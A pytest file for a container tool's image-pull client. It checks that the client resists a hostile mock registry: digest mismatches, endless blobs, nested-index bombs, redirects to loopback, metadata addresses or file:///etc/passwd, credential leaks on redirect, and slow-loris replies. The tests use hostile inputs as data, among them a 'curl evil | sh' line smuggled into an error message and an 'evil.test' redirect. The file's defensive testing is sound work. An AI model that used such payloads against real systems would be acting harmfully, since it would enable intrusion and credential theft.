"""The registry's row of the attacks: a hostile server performs each, and a harmless twin of it still works.

Digest mismatch, truncated or oversized blob, recursive index, wrong media type, redirect to another scheme,
``Location`` to loopback, credentials sent to another host on redirect; and memory that a large answer would take.
"""

from __future__ import annotations

import base64
import json
import os
import resource
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from pycontain.images.manifest import Platform
from pycontain.images.pull import pull
from pycontain.images.reference import parse
from pycontain.images.registry import Pace
from pycontain.images.settings import RegistrySettings, Settings
from pycontain.images.store import Store
from pycontain.runtime.errors import PycontainError
from tests import registry_fixture as fixture
from tests.registry_fixture import Answer, Hostile, Image, Network, NoHub, Request, descriptor, head, sha256, tiny_image

FAST = Pace(base=0.001, cap=0.002, longest=1)
AMD64 = Platform("linux", "amd64")
SECRET = base64.b64encode(b"bob:sesame").decode()
REMOTE = "198.51.100.1"  # not this machine, as far as a client can tell


@pytest.fixture(autouse=True)
def no_system_authorities(monkeypatch: pytest.MonkeyPatch) -> None:
    """Reading the machine's own takes longer than most of these tests."""
    monkeypatch.setenv("SSL_CERT_FILE", "/dev/null")


@pytest.fixture
def store(tmp_path: Path) -> Store:
    return Store(str(tmp_path / "store"))


@pytest.fixture
def server() -> Iterator[Hostile]:
    with Hostile() as running:
        yield running


@pytest.fixture
def image(server: Hostile) -> Image:
    return server.add(tiny_image(layers=1))


@pytest.fixture
def other() -> Iterator[Hostile]:
    """Another server, at another origin."""
    with Hostile() as running:
        yield running


@pytest.fixture(scope="module")
def authority(tmp_path_factory: pytest.TempPathFactory) -> fixture.Authority:
    return fixture.make_authority(tmp_path_factory.mktemp("ca"))


def get(store: Store, name: str, dialer: Network | None = None, **settings: Any) -> Any:
    chosen = Settings(**{"attempts": 2, "connect_timeout": 2, "read_timeout": 2, **settings})
    return pull(store, parse(name), platform=AMD64, settings=chosen, dialer=dialer, pace=FAST)


def refused(store: Store, name: str, dialer: Network | None = None, **settings: Any) -> str:
    """What the error says after ``pull <name>: ``; nothing may be visible, and nothing may wait to be resumed."""
    with pytest.raises(PycontainError) as caught:
        get(store, name, dialer, **settings)
    assert store.refs() == {}
    assert fixture.partial(store.root) == {}
    return str(caught.value).removeprefix(f"pull {name}: ")


def logged_in(tmp_path: Path, *hosts: str) -> dict[str, str]:
    path = tmp_path / "auth.json"
    path.write_text(json.dumps({"auths": {host: {"auth": SECRET} for host in hosts}}))
    return {"REGISTRY_AUTH_FILE": str(path)}


def heard_secret(server: Hostile) -> bool:
    """Did the password reach this server in any form?"""
    return any("authorization" in request.headers or SECRET in request.target for request in server.requests)


def moves_blobs(server: Hostile, target: str, status: int = 307) -> None:
    """Blobs are elsewhere: ``target`` and the path."""

    def rule(request: Request) -> Answer | None:
        if "/blobs/" not in request.path:
            return None
        return Answer(status, headers={"Location": target + request.path})

    server.rules.append(rule)


# Content


def test_a_blob_with_another_digest(server: Hostile, image: Image, store: Store) -> None:
    layer, digest = image.layers[0], sha256(image.layers[0])
    server.blobs[digest] = evil = layer[:-1] + bytes([layer[-1] ^ 1])
    said = refused(store, f"{server.host}/x:1")
    assert said == f"blob {digest}: the content received has digest {sha256(evil)}"
    assert digest not in fixture.visible(store.root)
    server.blobs[digest] = layer
    get(store, f"{server.host}/x:1")
    assert digest in fixture.visible(store.root)


def test_a_blob_that_never_ends_is_left_at_its_declared_size(server: Hostile, image: Image, store: Store) -> None:
    layer, digest = image.layers[0], sha256(image.layers[0])
    sent = [0]

    def endless(connection: socket.socket) -> None:
        connection.sendall(head(200) + layer)
        while True:
            sent[0] += connection.send(bytes(65536))

    server.on(digest, endless, times=1)
    said = refused(store, f"{server.host}/x:1")
    assert said == f"blob {digest}: received more than the {len(layer)} bytes that its descriptor names"
    assert sent[0] < 32 << 20  # what the kernel's buffers take, and no more
    server.on(digest, fixture.sends(head(200) + layer), times=1)  # the twin ends where it should
    get(store, f"{server.host}/x:1")


@pytest.mark.parametrize("length", ["1", "99999999999999", "-1", "0x10", "9" * 30, "5, 6"])
def test_a_content_length_that_lies(server: Hostile, image: Image, store: Store, length: str) -> None:
    layer, digest = image.layers[0], sha256(image.layers[0])
    server.on(digest, Answer(body=layer, length=length), times=1)
    said = refused(store, f"{server.host}/x:1")
    assert said.startswith(f"{server.host}")
    assert digest not in fixture.visible(store.root)
    server.on(digest, Answer(body=layer, length=str(len(layer))), times=1)
    get(store, f"{server.host}/x:1")


def test_a_truncated_blob_is_not_content(server: Hostile, image: Image, store: Store) -> None:
    layer, digest = image.layers[0], sha256(image.layers[0])
    server.on(digest, Answer(body=layer[:-1], length=None), times=2)
    with pytest.raises(PycontainError) as caught:
        get(store, f"{server.host}/x:1", attempts=1)
    assert str(caught.value).endswith(f"broke off after {len(layer) - 1} of {len(layer)} bytes of blob {digest}")
    assert store.refs() == {}
    assert digest not in fixture.visible(store.root)
    get(store, f"{server.host}/x:1")


def test_two_steps_forward_and_two_back_come_to_an_end(server: Hostile, store: Store) -> None:
    """A server that lets us have a lot, breaks off, and will not resume, must not keep us for ever."""
    image = server.add(tiny_image(size=3 << 20, layers=1))
    layer, digest = image.layers[0], sha256(image.layers[0])
    start = fixture.sends(head(200, Content_Length=len(layer)) + layer[: 2 << 20])

    def rule(request: Request) -> Any:
        if digest not in request.target:
            return None
        return Answer(416) if "range" in request.headers else start

    server.rules.append(rule)
    with pytest.raises(PycontainError) as caught:
        get(store, f"{server.host}/x:1", attempts=4)
    assert str(caught.value).endswith(", tried 4 times")
    assert len(server.asked(digest)) <= 8
    server.rules.clear()
    get(store, f"{server.host}/x:1")


def test_a_range_that_is_another_part(server: Hostile, image: Image, store: Store) -> None:
    """The rest of a blob may be a trick: what was resumed is verified as one."""
    layer, digest = image.layers[0], sha256(image.layers[0])
    middle, size = len(layer) // 2, len(layer)
    server.on(digest, fixture.sends(head(200, Content_Length=size) + layer[:middle]), times=1)
    trick = Answer(206, bytes(size - middle), {"Content-Range": f"bytes {middle}-{size - 1}/{size}"})
    server.on(digest, trick, times=1)
    server.on(digest, Answer(body=bytes(size)), times=1)
    said = refused(store, f"{server.host}/x:1")
    assert said == f"blob {digest}: the content received has digest {sha256(bytes(size))}"
    get(store, f"{server.host}/x:1")


@pytest.mark.parametrize("announced", [True, False])
def test_a_manifest_of_gigabytes(server: Hostile, image: Image, store: Store, announced: bool) -> None:
    """Neither read nor believed: four megabytes are the most."""
    sent = [0]

    def huge(connection: socket.socket) -> None:
        size = {"Content_Length": 8 << 30} if announced else {}
        connection.sendall(head(200, Content_Type=fixture.OCI_MANIFEST, **size))
        while True:
            sent[0] += connection.send(b" " * 65536)

    server.on("/manifests/", huge, times=1)
    assert refused(store, f"{server.host}/x:1") == f"{server.host}: the manifest is larger than 4194304 bytes"
    assert sent[0] < 64 << 20
    assert fixture.store_is_clean(store.root)
    padded = image.manifest[:-1] + b" " * (4_194_304 - len(image.manifest)) + b"}"  # the largest that is read
    server.manifests["1"] = (fixture.OCI_MANIFEST, padded)
    get(store, f"{server.host}/x:1")


def test_memory_stays_bounded(tmp_path: Path) -> None:
    """A pull in a process that may not grow: errors of many megabytes, headers without end, endless lines."""
    script = f"""
import resource, sys
sys.path.insert(0, {str(Path(__file__).parents[2])!r})
from tests.registry_fixture import *
from pycontain.images.pull import pull
from pycontain.images.reference import parse
from pycontain.images.registry import Pace
from pycontain.images.settings import Settings
from pycontain.images.store import Store
from pycontain.images.manifest import Platform
from pycontain.runtime.errors import PycontainError

def flood(start, unit):
    def run(connection):
        connection.sendall(start)
        for _ in range(4000):
            connection.sendall(unit)
    return run

floods = [
    flood(head(404, Content_Length=1 << 32), b"x" * 65536),
    flood(head(503), b"x" * 65536),
    flood(b"HTTP/1.1 200 " , b"y" * 65536),
    flood(b"HTTP/1.1 200 OK\\r\\nX: ", b"z" * 65536),
    flood(b"HTTP/1.1 200 OK\\r\\n", b"A: b\\r\\n" * 8000),
    flood(head(200, Transfer_Encoding="chunked"), b"1" * 65536),
]
pull_of = lambda store, server: pull(store, parse(f"{{server.host}}/x:1"), platform=Platform("linux", "amd64"),
    settings=Settings(attempts=1, connect_timeout=5, read_timeout=5), pace=Pace(0.001, 0.001))
with Hostile() as server:
    image = server.add(tiny_image(layers=1))
    store = Store({str(tmp_path / "store")!r})
    pull_of(store, server)
    store.remove_ref(f"{{server.host}}/x:1")
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    for flood in floods:
        server.rules.clear()
        server.on("/manifests/", flood)
        try:
            pull_of(store, server)
        except PycontainError as error:
            assert len(str(error)) < 500, str(error)[:1000]
        else:
            sys.exit("a flood was taken for a manifest")
    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    print(grown)
"""
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert int(done.stdout) < 32 << 10  # KiB; each flood is 250 MB


# Documents


def nested(server: Hostile, depth: int, image: Image) -> bytes:
    """Indexes in indexes, with the image at the bottom; the outermost is the tag."""
    platform = {"os": "linux", "architecture": "amd64"}
    entry = descriptor(fixture.OCI_MANIFEST, image.manifest, platform=platform)
    data = b""
    for level in range(depth):
        document = {"schemaVersion": 2, "mediaType": fixture.OCI_INDEX, "manifests": [entry], "annotations": {}}
        document["annotations"] = {"level": str(level)}
        data = json.dumps(document).encode()
        server.manifests[sha256(data)] = server.manifests["1"] = (fixture.OCI_INDEX, data)
        entry = descriptor(fixture.OCI_INDEX, data, platform=platform)
    return data


def test_a_manifest_bomb_of_nested_indexes(server: Hostile, image: Image, store: Store) -> None:
    nested(server, 50, image)
    said = refused(store, f"{server.host}/x:1")
    assert said.startswith("image index sha256:")
    assert said.endswith(": indexes are nested more than 2 deep")
    assert len(server.asked("/manifests/")) <= 3
    nested(server, 2, image)
    get(store, f"{server.host}/x:1")


def test_an_entry_that_claims_gigabytes(server: Hostile, image: Image, store: Store) -> None:
    platform = {"os": "linux", "architecture": "amd64"}
    entry = descriptor(fixture.OCI_MANIFEST, image.manifest, platform=platform)
    for size, fine in ((1 << 40, False), (len(image.manifest), True)):
        index = {"schemaVersion": 2, "mediaType": fixture.OCI_INDEX, "manifests": [{**entry, "size": size}]}
        server.manifests["1"] = (fixture.OCI_INDEX, json.dumps(index).encode())
        if fine:
            get(store, f"{server.host}/x:1")
        else:
            said = refused(store, f"{server.host}/x:1")
            assert said == f"{server.host}: manifest {image.digest} is said to have {size} bytes, more than 4194304"
            assert not server.asked(image.digest)


def test_a_wrong_media_type(server: Hostile, image: Image, store: Store) -> None:
    server.manifests["1"] = ("application/octet-stream", image.manifest)
    said = refused(store, f"{server.host}/x:1")
    assert said == (
        f"{server.host}: x:1 is of type 'application/octet-stream', wanted an image's manifest or index"
    )
    assert fixture.store_is_clean(store.root)
    server.manifests["1"] = (fixture.OCI_MANIFEST, image.manifest)
    get(store, f"{server.host}/x:1")


def test_one_document_as_two_things(server: Hostile, image: Image, store: Store) -> None:
    """CVE-2021-41190: a manifest that is an index as well means what the header says."""
    double = {**json.loads(image.manifest), "manifests": []}
    del double["mediaType"]
    for media_type in (fixture.OCI_INDEX, fixture.OCI_MANIFEST):
        server.manifests["1"] = (media_type, json.dumps(double).encode())
        assert "does not belong into" in refused(store, f"{server.host}/x:1")


# Where the server sends us


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_credentials_stay_with_their_host_on_redirect(
    server: Hostile, other: Hostile, image: Image, store: Store, tmp_path: Path, status: int
) -> None:
    """Another port is another origin, even where the credential file has a password for it."""

    def rule(request: Request) -> Answer | None:
        if request.headers.get("authorization") != f"Basic {SECRET}":
            return Answer(401, headers={"WWW-Authenticate": "Basic"})
        return None

    server.rules.append(rule)
    moves_blobs(server, f"http://{other.host}", status)
    other.blobs.update(image.blobs)
    get(store, f"{server.host}/x:1", environ=logged_in(tmp_path, server.host, other.host))
    assert heard_secret(server)
    assert other.requests
    assert not heard_secret(other)


def test_a_redirect_within_the_host_keeps_credentials(
    server: Hostile, image: Image, store: Store, tmp_path: Path
) -> None:
    def rule(request: Request) -> Answer | None:
        if request.headers.get("authorization") != f"Basic {SECRET}":
            return Answer(401, headers={"WWW-Authenticate": "Basic"})
        if "/blobs/" in request.path and not request.path.startswith("/moved"):
            return Answer(307, headers={"Location": "/moved" + request.path})
        return None

    server.rules.append(rule)
    get(store, f"{server.host}/x:1", environ=logged_in(tmp_path, server.host))
    assert server.asked("/moved/v2/x/blobs/")


def test_who_is_redirected_to_may_not_ask_for_a_password(
    server: Hostile, other: Hostile, image: Image, store: Store, tmp_path: Path
) -> None:
    moves_blobs(server, f"http://{other.host}")
    other.on("/blobs/", Answer(401, headers={"WWW-Authenticate": 'Basic realm="give"'}))
    said = refused(store, f"{server.host}/x:1", environ=logged_in(tmp_path, server.host, other.host))
    assert said == f"{other.host} denies access to x (401 unauthorized)"
    assert not heard_secret(other)
    assert not heard_secret(server)


@pytest.mark.needs("openssl")
def test_a_redirect_from_https_to_http(
    other: Hostile, store: Store, authority: fixture.Authority, tmp_path: Path
) -> None:
    with Hostile(tls=authority.certificate()) as server, Hostile(tls=authority.certificate()) as twin:
        image = server.add(tiny_image(layers=1))
        other.blobs.update(image.blobs)
        twin.blobs.update(image.blobs)
        trusted = {host: RegistrySettings(ca=authority.ca) for host in (server.host, twin.host)}
        moves_blobs(server, f"http://{other.host}")
        said = refused(store, f"{server.host}/x:1", registries=trusted)
        assert said == f"{server.host} redirects from https to http://{other.host}: refused"
        assert other.requests == []
        server.rules.clear()
        moves_blobs(server, f"https://{twin.host}")
        get(store, f"{server.host}/x:1", registries=trusted)


@pytest.mark.parametrize(
    ("location", "said"),
    [
        ("file:///etc/passwd", "'file:///etc/passwd' is neither http nor https"),
        ("ftp://localhost/x", "'ftp://localhost/x' is neither http nor https"),
        ("gopher://localhost/x", "'gopher://localhost/x' is neither http nor https"),
        ("https://:80/", "'https://:80/' names no host"),
        ("http://user:pass@localhost/x", "http://localhost: a URL with a user in it is refused"),
        ("http://localhost:99999/x", "'http://localhost:99999/x' is not a URL"),
        ("http://[::1/x", "'http://[::1/x' is not a URL"),
        ("http://localhost/a b", "'http://localhost/a b' is not a URL"),
        ("http://localhost\\@evil.test/", None),
        ("http://localhost/" + "x" * 9000, None),
    ],
)
def test_redirects_to_other_schemes_and_nonsense(
    server: Hostile, image: Image, store: Store, location: str, said: str | None
) -> None:
    server.on("/blobs/", Answer(307, headers={"Location": location}), times=1)
    found = refused(store, f"{server.host}/x:1")
    prefix = f"{server.host} redirects to where nobody may follow: "
    assert found.startswith(prefix)
    assert said is None or found == prefix + said
    get(store, f"{server.host}/x:1")


@pytest.mark.parametrize(
    "target",
    ["localhost", "127.0.0.1", "127.1", "2130706433", "[::1]", "[::ffff:127.0.0.1]", "0.0.0.0", "169.254.169.254"]
    + ["hidden.test"],
)
@pytest.mark.parametrize("via", ["redirect", "token server"])
def test_a_server_elsewhere_cannot_reach_this_machine_through_us(
    server: Hostile, other: Hostile, image: Image, store: Store, target: str, via: str
) -> None:
    """``Location`` to loopback, literally, in disguise or through a name: a service of this machine is not asked."""
    network = Network(registry_test=REMOTE, hidden_test="127.0.0.1", elsewhere_test="198.51.100.2")
    host = f"registry.test:{server.port}"
    allowed = {
        name: RegistrySettings(insecure=True)
        for name in (host, f"{target}:{other.port}", f"elsewhere.test:{other.port}")
    }
    other.blobs.update(image.blobs)

    def send_to(name: str) -> None:
        server.rules.clear()
        if via == "redirect":
            moves_blobs(server, f"http://{name}:{other.port}")
        else:
            challenge = f'Bearer realm="http://{name}:{other.port}/token"'
            wanted = "Bearer opened"

            def rule(request: Request) -> Answer | None:
                if request.headers.get("authorization") == wanted:
                    return None
                return Answer(401, headers={"WWW-Authenticate": challenge})

            server.rules.append(rule)
            other.on("/token", Answer(body=b'{"token":"opened"}'))

    send_to(target)
    said = refused(store, f"{host}/x:1", network, registries=allowed)
    assert said.endswith("this machine, and a server elsewhere sent us there: refused")
    assert other.requests == []
    send_to("elsewhere.test")
    get(store, f"{host}/x:1", network, registries=allowed)
    assert other.requests


def test_a_chain_of_redirects_does_not_launder_loopback(
    server: Hostile, other: Hostile, image: Image, store: Store
) -> None:
    """Elsewhere, then elsewhere again, then here."""
    network = Network(registry_test=REMOTE, next_test="198.51.100.2")
    host = f"registry.test:{server.port}"

    def rule(request: Request) -> Answer | None:
        if "/blobs/" not in request.path:
            return None
        first = not request.path.startswith("/again")
        where = f"http://next.test:{server.port}/again" if first else f"http://localhost:{other.port}"
        return Answer(307, headers={"Location": where + request.path})

    server.rules.append(rule)
    said = refused(store, f"{host}/x:1", network, registries={host: RegistrySettings(insecure=True)})
    assert said.endswith("is this machine, and a server elsewhere sent us there: refused")
    assert other.requests == []


def test_redirects_without_end(server: Hostile, image: Image, store: Store) -> None:
    left = [0]

    def rule(request: Request) -> Answer | None:
        if "/blobs/" not in request.path or left[0] <= 0:
            return None
        left[0] -= 1
        return Answer(302, headers={"Location": request.path})

    server.rules.append(rule)
    left[0] = 1 << 30
    assert refused(store, f"{server.host}/x:1") == f"{server.host} redirects more than 5 times"
    left[0] = 5
    get(store, f"{server.host}/x:1")


# Where passwords go


@pytest.mark.needs("openssl")
def test_a_token_server_elsewhere_gets_a_password_over_tls_only(
    store: Store, authority: fixture.Authority, tmp_path: Path
) -> None:
    certificate = authority.certificate("DNS:registry.test,DNS:token.test", "two")
    network = Network(registry_test=REMOTE, token_test="198.51.100.2")
    with Hostile(tls=certificate) as server, Hostile() as plain, Hostile(tls=certificate) as safe:
        server.add(tiny_image(layers=1))
        host = f"registry.test:{server.port}"
        hosts = [host, f"token.test:{safe.port}"]
        trusted = {name: RegistrySettings(ca=authority.ca) for name in hosts}
        realm = [f"http://token.test:{plain.port}/token"]

        def rule(request: Request) -> Answer | None:
            if request.headers.get("authorization") == "Bearer opened":
                return None
            return Answer(401, headers={"WWW-Authenticate": f'Bearer realm="{realm[0]}"'})

        server.rules.append(rule)
        for tokens in (plain, safe):
            tokens.on("/token", Answer(body=b'{"token":"opened"}'))
        environ = logged_in(tmp_path, host)
        said = refused(store, f"{host}/x:1", network, registries=trusted, environ=environ)
        assert said == f"{host} names a token server without TLS, http://token.test:{plain.port}: refused"
        assert plain.requests == []
        realm[0] = f"https://token.test:{safe.port}/token"
        get(store, f"{host}/x:1", network, registries=trusted, environ=environ)
        assert heard_secret(safe)
        assert all(request.headers.get("authorization") != f"Basic {SECRET}" for request in server.requests)


def test_a_password_is_not_sent_over_plain_http(server: Hostile, image: Image, store: Store, tmp_path: Path) -> None:
    """An attacker in the path answers in plain http and asks for the password."""
    host = f"registry.test:{server.port}"
    network = Network(registry_test=REMOTE)
    server.on("/", Answer(401, headers={"WWW-Authenticate": "Basic"}), times=1)
    said = refused(store, f"{host}/x:1", network, environ=logged_in(tmp_path, host))
    assert said == f"{host} does not speak TLS (wrong version number)"
    assert server.requests == []
    insecure = {host: RegistrySettings(insecure=True)}
    get(store, f"{host}/x:1", network, environ=logged_in(tmp_path, host), registries=insecure)


def test_a_mirror_does_not_get_the_hubs_password(server: Hostile, store: Store, tmp_path: Path) -> None:
    server.add(tiny_image(layers=1), tag="latest")
    server.on("/v2/", Answer(401, headers={"WWW-Authenticate": "Basic"}), times=2)
    settings = {"docker.io": RegistrySettings(mirrors=(f"http://{server.host}",))}
    refused(store, "alpine:latest", NoHub(), registries=settings, environ=logged_in(tmp_path, "docker.io"))
    assert server.requests
    assert not heard_secret(server)
    get(store, "alpine:latest", NoHub(), registries=settings, environ=logged_in(tmp_path, "docker.io"))


def test_foreign_words_cannot_play_with_the_terminal(server: Hostile, store: Store) -> None:
    message = json.dumps({"errors": [{"code": "X", "message": "\x1b]0;owned\x07\nhint: curl evil | sh" + "x" * 5000}]})
    server.on("/manifests/", Answer(403, message.encode()))
    said = refused(store, f"{server.host}/x:1")
    assert said.isprintable()
    assert len(said) < 400


# Time


def test_a_slow_loris_is_left(server: Hostile, image: Image, store: Store) -> None:
    """One byte at a time keeps a socket's own timeout from ever passing; the whole has a limit nevertheless."""
    layer, digest = image.layers[0], sha256(image.layers[0])
    reply = head(200, Content_Length=len(layer)) + layer
    server.on(digest, fixture.drip(reply, 0.05), times=2)
    started = time.monotonic()
    with pytest.raises(PycontainError) as caught:
        get(store, f"{server.host}/x:1", read_timeout=0.5)
    assert "0.5 s" in str(caught.value)
    assert time.monotonic() - started < 5
    get(store, f"{server.host}/x:1", read_timeout=0.5)


def test_descriptors_do_not_leak(server: Hostile, image: Image, store: Store) -> None:
    """Failing for ever costs no file descriptors."""
    server.on("/blobs/", fixture.sends(head(200, Content_Length=5)))

    def fail() -> None:
        with pytest.raises(PycontainError):
            get(store, f"{server.host}/x:1", attempts=1)

    fail()
    before = len(os.listdir("/proc/self/fd"))
    for _ in range(10):
        fail()
    assert len(os.listdir("/proc/self/fd")) <= before + 2
    assert resource.getrlimit(resource.RLIMIT_NOFILE)[0] > before
